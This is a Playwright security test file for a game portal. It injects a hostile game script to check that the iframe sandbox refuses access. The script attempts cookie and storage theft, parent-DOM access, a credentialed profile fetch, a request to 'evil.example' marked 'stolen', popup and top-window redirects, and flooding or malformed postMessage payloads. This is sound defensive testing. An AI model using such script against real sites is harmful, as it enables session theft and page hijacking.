import type { Page } from "@playwright/test";
import { findCatalogue } from "./catalogue";
import { expect, test } from "./portal";

/** What a game that means harm finds out; each word is an attempt and what came of it. */
const HOSTILE_SCRIPT = `
const found = {};
const attempt = async (name, act) => {
  try { found[name] = String(await act()); } catch (error) { found[name] = "refused"; }
};
const say = (message) => parent.postMessage(message, "*");
await attempt("cookie", () => document.cookie);
await attempt("storage", () => localStorage.length);
await attempt("pageStorage", () => parent.localStorage.length);
await attempt("dom", () => parent.document.title);
await attempt("pageAddress", () => parent.location.href);
await attempt("profile", async () => (await fetch("/embedded/api/profile", { credentials: "include" })).status);
await attempt("elsewhere", async () => (await fetch("https://evil.example/?stolen")).status);
await attempt("popup", () => (window.open("https://evil.example/") === null ? "refused" : "opened"));
await attempt("top", () => { top.location.href = "https://evil.example/"; return "sent"; });
await attempt("topReplaced", () => { top.location.replace("https://evil.example/"); return "sent"; });
say({ type: "LOAD_PROGRESS", gameId: "", progress: 7 });
say({ type: "SCORE", score: 1e300 });
say({ type: "SCORE", score: -1 });
say({ type: "SAVE_SET", slot: "", data: 1 });
say({ type: "SAVE_SET", slot: "x", data: "y".repeat(3_000_000) });
say({ type: "ROOM_SEND", data: () => 1 }.type);
say({ type: "INIT", __proto__: null });
say("{}");
say(null);
for (let index = 0; index < 20_000; index++) say({ type: "FLOOD", index });
say({ type: "GAME_READY" });
document.documentElement.dataset.found = JSON.stringify(found);
`;

/** Serves another game in Softfall's place, as its own host would: under the same policy. */
async function replaceGame(page: Page): Promise<void> {
  await page.route("**/play/softfall/index.html*", async (route) => {
    const answer = await route.fetch();
    const body = '<!doctype html><title>Evil</title><script type="module" src="evil.js"></script>';
    await route.fulfill({ response: answer, body });
  });
  await page.route("**/play/softfall/evil.js", async (route) => {
    const headers = { "access-control-allow-origin": "*", "content-type": "text/javascript" };
    await route.fulfill({ headers, body: HOSTILE_SCRIPT });
  });
}

test("a game that means harm gets nowhere", async ({ page, consoleErrors }) => {
  const { game } = await findCatalogue(page, "Softfall");
  await replaceGame(page);
  const popups: Page[] = [];
  page.context().on("page", (opened) => popups.push(opened));
  const asked: string[] = [];
  page.on("request", (request) => {
    if (request.method() === "POST" && !request.url().includes("/api/plays")) asked.push(request.url());
  });
  await page.goto(game);
  await page.getByRole("button", { name: "Play Softfall" }).click();
  const frame = page.frameLocator("iframe.gframe").locator("html");
  await expect(frame).toHaveAttribute("data-found", /topReplaced/);
  const found: unknown = JSON.parse((await frame.getAttribute("data-found")) ?? "");
  expect(found).toEqual({
    ...{ cookie: "refused", storage: "refused", pageStorage: "refused", dom: "refused", pageAddress: "refused" },
    ...{ profile: "refused", elsewhere: "refused", popup: "refused", top: "refused", topReplaced: "refused" },
  });

  await test.step("and the page around it is as it was", async () => {
    expect(popups).toEqual([]);
    expect(asked).toEqual([]);
    expect(new URL(page.url()).pathname).toBe(game);
    expect(await page.evaluate(() => Object.keys(localStorage).filter((key) => key.startsWith("saves:")))).toEqual([]);
    await page.getByRole("button", { name: "Controls" }).click();
    await expect(page.getByRole("dialog", { name: "Controls" })).toBeVisible();
  });
  // The browser says aloud what it has refused.
  consoleErrors.splice(0);
});
